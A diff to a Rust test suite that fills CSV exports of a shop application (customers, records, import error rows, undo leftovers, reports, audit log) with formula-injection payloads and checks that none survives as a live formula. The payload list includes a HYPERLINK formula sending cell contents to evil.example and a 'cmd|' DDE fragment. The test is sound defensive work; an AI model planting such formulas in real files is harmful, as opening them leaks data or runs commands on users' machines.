@@ -3,6 +3,7 @@
 use super::castle;
 use crate::world::*;
 use api::openapi::{document, routes_of};
+use base::Timestamp;
 
 const HOSTILE: [&str; 12] = [
     "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
@@ -48,8 +49,8 @@ fn expect_harmless(name: &str, file: &Answer) {
     }
 }
 
-/// Customers, records, changes of a segment, refused rows, a report and the log, filled with formulas wherever a text
-/// goes in.
+/// Customers, records, changes of a segment, refused rows, what stays of an undone import, a report and the log, filled
+/// with formulas wherever a text goes in.
 #[test]
 fn no_file_that_leaves_holds_a_formula() {
     let world = castle();
@@ -59,12 +60,17 @@ fn no_file_that_leaves_holds_a_formula() {
         ("/records/export.csv", records(&shop)),
         ("/segments/{id}/changes/export.csv", changes(&shop)),
         ("/operations/{id}/errors.csv", refused_rows(&shop)),
+        ("/operations/{id}/errors.csv", kept_rows(&shop)),
         ("/campaigns/{id}/report.csv", report(&shop)),
-        ("/audit/export.csv", log(&shop)),
+        ("/audit/export.csv", log(&world, &shop)),
     ];
     for (name, paths) in &files {
         for path in paths {
-            expect_harmless(name, &shop.get(path));
+            let file = shop.get(path);
+            expect_harmless(name, &file);
+            // What was typed is in it: a file that lost it would be harmless, too.
+            let typed = ["HYPERLINK", "1+1", "cmd|"].iter().any(|part| file.text.contains(part));
+            assert!(typed, "{name}: {}", file.text);
         }
     }
     // A file that leaves from now on is attacked here as well.
@@ -76,6 +82,11 @@ fn no_file_that_leaves_holds_a_formula() {
         .filter(|path| !known.iter().any(|name| path.ends_with(name)))
         .collect();
     assert!(missing.is_empty(), "files that nobody attacks: {missing:?}");
+}
+
+/// Those that a name may be; a tab may stand in a cell of a file only.
+fn words() -> Vec<&'static str> {
+    HOSTILE.into_iter().filter(|text| !text.contains('\t')).collect()
 }
 
 fn customers(shop: &Shop) -> Vec<String> {
@@ -90,10 +101,18 @@ fn customers(shop: &Shop) -> Vec<String> {
             assert!(matches!(made.status, 201 | 422), "{made:?}");
         }
     }
-    for text in HOSTILE {
-        let body = json!({ "key": format!("k{}", base::Random::system().next_u64()), "label": { "ru": text }, "type": "text" });
-        let made = shop.post("/fields", body);
-        assert!(matches!(made.status, 201 | 422), "{made:?}");
+    // Fields of the shop's own: a text, a choice, and several choices in one cell.
+    let words = words();
+    let choices: Vec<Value> =
+        words.iter().map(|text| json!({ "value": text, "label": { "ru": text } })).collect();
+    for (key, kind) in [("typed", "text"), ("chosen", "choice"), ("several", "many_choice")] {
+        let listed = if kind == "text" { json!([]) } else { json!(choices) };
+        let body = json!({ "key": key, "label": { "ru": HOSTILE[0] }, "type": kind, "choices": listed });
+        shop.create("/fields", body);
+    }
+    for text in words {
+        let fields = json!({ "typed": text, "chosen": text, "several": [text, HOSTILE[3], HOSTILE[5]] });
+        shop.create("/customers", json!({ "first_name": "Typed", "fields": fields }));
     }
     vec!["/customers/export.csv".to_owned()]
 }
@@ -105,8 +124,15 @@ fn records(shop: &Shop) -> Vec<String> {
         json!({ "key": "visit", "label": { "ru": HOSTILE[0] }, "fields": [field(HOSTILE[1])] }),
     );
     assert_eq!(made.status, 201, "{made:?}");
-    let customer = shop.create("/customers", json!({ "first_name": HOSTILE[3] }));
     for text in HOSTILE {
+        let identities = json!([{ "kind": "external", "value": text }]);
+        let owner = json!({ "first_name": text, "identities": identities });
+        let customer = shop.post("/customers", owner);
+        // Some are there already, with the same number of the shop's own, and a tab is refused.
+        let customer = match customer.json["id"].as_str() {
+            Some(id) => id.to_owned(),
+            None => shop.create("/customers", json!({ "first_name": "Owner" })),
+        };
         let body =
             json!({ "type": "visit", "customer_id": customer, "number": text, "fields": { "note": text } });
         let made = shop.post("/records", body);
@@ -127,26 +153,53 @@ fn changes(shop: &Shop) -> Vec<String> {
     vec![format!("/segments/{segment}/changes/export.csv?period=today")]
 }
 
-/// Rows that an import refused, as they came: with every separator that a file may have.
+/// Rows that an import refused, as they came, below headers as they came: with every separator that a file may have.
 fn refused_rows(shop: &Shop) -> Vec<String> {
     let mut paths = Vec::new();
     for separator in [",", ";", "\t"] {
-        let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
         let lines = HOSTILE.iter().map(|text| format!("nonsense{separator}{}\n", quoted(text)));
-        let text = format!("email{separator}city\n{}", lines.collect::<String>());
-        let body = Some(("application/octet-stream".to_owned(), text.into_bytes()));
-        let file = shop.client.raw("POST", &shop.path("/files?name=%3D1%2B1.csv"), body);
-        assert_eq!(file.status, 201, "{file:?}");
-        let import = json!({
-            "file_id": file.json["id"], "kind": "customers", "dry_run": false,
-            "mapping": [{ "column": 0, "target": "email" }, { "column": 1, "target": "city" }],
-        });
-        let id = shop.create("/imports", import);
-        let done = shop.wait(&format!("/operations/{id}"), |answer| answer.json["finished_at"].is_string());
-        assert_eq!(done.status, 200, "{done:?}");
-        paths.push(format!("/operations/{id}/errors.csv"));
+        let heading = HOSTILE.map(quoted).join(separator);
+        let text = format!("email{separator}city{separator}{heading}\n{}", lines.collect::<String>());
+        paths.push(format!("/operations/{}/errors.csv", imported(shop, text)));
     }
     paths
+}
+
+fn quoted(text: &str) -> String {
+    format!("\"{}\"", text.replace('"', "\"\""))
+}
+
+/// Imports a file of customers whose first columns are an address and a city.
+fn imported(shop: &Shop, text: String) -> String {
+    let body = Some(("application/octet-stream".to_owned(), text.into_bytes()));
+    let file = shop.client.raw("POST", &shop.path("/files?name=%3D1%2B1.csv"), body);
+    assert_eq!(file.status, 201, "{file:?}");
+    let import = json!({
+        "file_id": file.json["id"], "kind": "customers", "dry_run": false,
+        "mapping": [{ "column": 0, "target": "email" }, { "column": 1, "target": "city" }],
+    });
+    let id = shop.create("/imports", import);
+    shop.wait(&format!("/operations/{id}"), |answer| answer.json["finished_at"].is_string());
+    id
+}
+
+/// What stays when an import is taken back: people who have other names since.
+fn kept_rows(shop: &Shop) -> Vec<String> {
+    let lines = (0..HOSTILE.len()).map(|at| format!("kept{at}@shop.example,Kept\n"));
+    let import = imported(shop, format!("email,city\n{}", lines.collect::<String>()));
+    let found = shop.get("/customers?limit=100&search=kept");
+    let rows = found.json["rows"].as_array().unwrap_or_else(|| panic!("{found:?}"));
+    assert!(rows.len() >= HOSTILE.len(), "{found:?}");
+    for (row, text) in rows.iter().zip(words()) {
+        let path = format!("/customers/{}", row["id"].as_str().unwrap());
+        let known = shop.get(&path);
+        let named =
+            shop.edit("PATCH", &path, known.header("etag"), json!({ "first_name": text, "city": text }));
+        assert_eq!(named.status, 200, "{named:?}");
+    }
+    let undone = shop.create(&format!("/imports/{import}/undo"), json!({ "dry_run": false }));
+    shop.wait(&format!("/operations/{undone}"), |answer| answer.json["finished_at"].is_string());
+    vec![format!("/operations/{undone}/errors.csv")]
 }
 
 fn report(shop: &Shop) -> Vec<String> {
@@ -165,14 +218,27 @@ fn report(shop: &Shop) -> Vec<String> {
         .collect()
 }
 
-/// The log tells who did what by their names.
-fn log(shop: &Shop) -> Vec<String> {
+/// The log tells who did what by their names. Its lines are of ids and our words, until some use case says more: so
+/// lines of formulas are written into it by hand.
+fn log(world: &World, shop: &Shop) -> Vec<String> {
     let named = shop.client.raw(
         "PATCH",
         "/api/me",
         Some(("application/json".to_owned(), json!({ "name": HOSTILE[0] }).to_string().into_bytes())),
     );
     assert!(named.status < 300, "{named:?}");
+    let workspace = world.server.workspace("shop").unwrap();
+    for text in HOSTILE {
+        let detail = json!({ "said": format!("a;{text}"), text: 1 });
+        let line = store::audit::Entry {
+            happened_at: Timestamp::from_seconds(1),
+            actor: text.to_owned(),
+            action: text.to_owned(),
+            subject: text.to_owned(),
+            detail,
+        };
+        workspace.db.write(move |tx| store::audit::append(tx, &line)).unwrap();
+    }
     vec!["/audit/export.csv".to_owned()]
 }
 
